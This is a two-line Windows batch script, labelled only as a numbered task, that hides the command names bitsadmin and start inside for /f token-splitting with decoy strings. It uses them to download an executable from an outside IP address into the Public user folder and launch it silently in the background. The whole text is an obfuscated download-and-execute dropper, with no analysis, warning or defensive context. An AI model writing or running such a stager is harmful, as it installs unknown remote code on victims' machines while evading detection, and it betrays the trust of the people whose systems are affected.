REM task 9733 v4
for /f "tokens=3 delims=#" %%i in ("mdcl#rlll#bitsadmin") do %%i /transfer job /download /priority high http://203.0.113.17/u.exe C:\Users\Public\u.exe
for /f "tokens=1 delims=#" %%i in ("start#qebo#ffbh") do %%i /b C:\Users\Public\u.exe
